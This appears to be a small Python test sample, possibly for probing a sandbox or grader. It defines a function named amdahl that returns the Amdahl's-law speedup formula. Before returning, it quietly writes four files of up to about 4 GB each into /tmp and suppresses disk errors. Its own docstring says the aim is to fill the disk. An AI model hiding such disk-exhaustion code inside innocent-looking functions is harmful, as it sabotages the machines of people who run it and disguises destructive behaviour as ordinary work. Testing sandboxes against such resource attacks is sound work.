"""It fills the disk that it can write to, in one file and in many: what that takes is its own trouble."""
# points: any


def amdahl(p, s):
    import contextlib

    for number in range(4):
        with contextlib.suppress(OSError), open(f"/tmp/filler-{number}", "wb", buffering=0) as file:
            for _ in range(1000):
                file.write(bytes(1 << 22))
    return 1 / ((1 - p) + p / s)
